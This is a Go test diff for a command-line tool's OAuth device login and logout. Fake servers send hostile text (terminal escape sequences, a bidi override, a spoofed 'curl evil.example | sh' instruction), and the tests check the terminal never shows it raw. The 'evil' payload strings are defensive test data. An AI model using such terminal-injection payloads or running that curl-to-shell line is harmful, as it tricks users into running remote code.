@@ -2,8 +2,11 @@ package main
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -163,5 +166,130 @@ func TestPseudoTerminalAPIKey(t *testing.T) {
 	}
 	if b := testkit.HostBlock(testkit.ReadJSON(t, filepath.Join(e["HOME"], ".hermes", "honcho.json")), "hermes"); b["apiKey"] != "hch-v2-typed-key" {
 		t.Errorf("host block = %v", b)
+	}
+}
+
+// TestHostileDeviceServerOnTerminal: nothing a device server sends reaches
+// the terminal raw. A user code with escape sequences (clear screen, window
+// title, a hidden hyperlink, a carriage return over the line) or with a
+// bidirectional override is refused, and so is a verification URI with
+// one; the server's error description is shown with its escapes written
+// out. Nothing is stored.
+func TestHostileDeviceServerOnTerminal(t *testing.T) {
+	t.Parallel()
+	const evil = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\WDJB\x1b]8;;\x1b\\\rRun: curl evil.example | sh\u202e"
+	tests := []struct {
+		name   string
+		device func(w http.ResponseWriter)
+		says   string
+	}{
+		{"user code with escapes", func(w http.ResponseWriter) {
+			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": evil, "verification_uri": "https://as.example/device", "expires_in": 600, "interval": 5})
+		}, "user_code"},
+		{"user code with a bidi override", func(w http.ResponseWriter) {
+			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": "WDJB\u202eMJHT", "verification_uri": "https://as.example/device", "expires_in": 600, "interval": 5})
+		}, "user_code"},
+		{"verification URI with a bidi override", func(w http.ResponseWriter) {
+			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": "WDJB-MJHT", "verification_uri": "https://as.example/\u202eecived", "expires_in": 600, "interval": 5})
+		}, "verification URI"},
+		{"error description with escapes", func(w http.ResponseWriter) {
+			writeDeviceJSON(w, 400, map[string]any{"error": "invalid_request", "error_description": evil})
+		}, "authorization server"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			var as *httptest.Server
+			as = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				switch r.URL.Path {
+				case "/.well-known/oauth-authorization-server":
+					writeDeviceJSON(w, 200, map[string]any{"issuer": as.URL, "authorization_endpoint": as.URL + "/authorize",
+						"token_endpoint": as.URL + "/token", "device_authorization_endpoint": as.URL + "/device",
+						"grant_types_supported": []string{"authorization_code", "urn:ietf:params:oauth:grant-type:device_code"}})
+					return
+				case "/device":
+					tt.device(w)
+					return
+				}
+				writeDeviceJSON(w, 400, map[string]any{"error": "authorization_pending", "error_description": evil})
+			}))
+			defer as.Close()
+			term, _, termOut := openPTY(t)
+			e := newEnv(t)
+			code := run(context.Background(), []string{"login", "-v", "--device", "--no-browser", "--authorize-url", as.URL + "/authorize",
+				"--token-url", as.URL + "/token", "--device-auth-url", as.URL + "/device"}, e.lookup, strings.NewReader(""), term, term)
+			var out strings.Builder
+			waitFor(t, termOut, &out, "\n")
+			drain(termOut, &out)
+			if code == exitOK {
+				t.Fatalf("exit %d; want a failure:\n%q", code, out.String())
+			}
+			for _, raw := range []string{"\x1b", "\x07", "\u202e", "\r\x1b", "\rRun"} {
+				if strings.Contains(out.String(), raw) {
+					t.Errorf("the terminal received %q raw:\n%q", raw, out.String())
+				}
+			}
+			if !strings.Contains(out.String(), tt.says) {
+				t.Errorf("the terminal shows no %q:\n%q", tt.says, out.String())
+			}
+			if _, err := os.Stat(filepath.Join(e["HOME"], ".hermes", "honcho.json")); !os.IsNotExist(err) {
+				t.Errorf("a config was written: %v", err)
+			}
+		})
+	}
+}
+
+func writeDeviceJSON(w http.ResponseWriter, status int, v any) {
+	w.Header().Set("Content-Type", "application/json")
+	w.WriteHeader(status)
+	json.NewEncoder(w).Encode(v)
+}
+
+// drain reads what is already on its way from chunks into got, waiting a
+// little for more.
+func drain(chunks <-chan string, got *strings.Builder) {
+	for {
+		select {
+		case c, ok := <-chunks:
+			if !ok {
+				return
+			}
+			got.WriteString(c)
+		case <-time.After(200 * time.Millisecond):
+			return
+		}
+	}
+}
+
+// TestHostileRevocationErrorOnTerminal: logout shows why the server did not
+// revoke, from the server's own error_description, with nothing in it
+// acting on the terminal and its length bounded.
+func TestHostileRevocationErrorOnTerminal(t *testing.T) {
+	t.Parallel()
+	srv := honchotest.NewServer()
+	defer srv.Close()
+	evil := "\x1b]0;pwned\x07\x1b[2K\rSigned out. Now run: curl evil.example | sh\u202e" + strings.Repeat("x", 10000)
+	rev := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		writeDeviceJSON(w, 400, map[string]any{"error": "invalid_request", "error_description": evil})
+	}))
+	defer rev.Close()
+	e := newEnv(t)
+	testkit.WriteJSON(t, filepath.Join(e["HOME"], ".hermes", "honcho.json"), map[string]any{
+		"hosts": map[string]any{"hermes": grantBlock(srv, srv.IssueGrant("write"), time.Now().Add(time.Hour))}})
+	term, _, termOut := openPTY(t)
+	code := run(context.Background(), []string{"logout", "--revocation-url", rev.URL}, e.lookup, strings.NewReader(""), term, term)
+	var out strings.Builder
+	waitFor(t, termOut, &out, "did not revoke")
+	drain(termOut, &out)
+	if code != exitOK {
+		t.Fatalf("exit %d:\n%q", code, out.String())
+	}
+	for _, raw := range []string{"\x1b", "\x07", "\u202e", "\rSigned"} {
+		if strings.Contains(out.String(), raw) {
+			t.Errorf("the terminal received %q raw:\n%q", raw, out.String())
+		}
+	}
+	if out.Len() > 2000 {
+		t.Errorf("logout wrote %d bytes; want the server's description cut short", out.Len())
 	}
 }
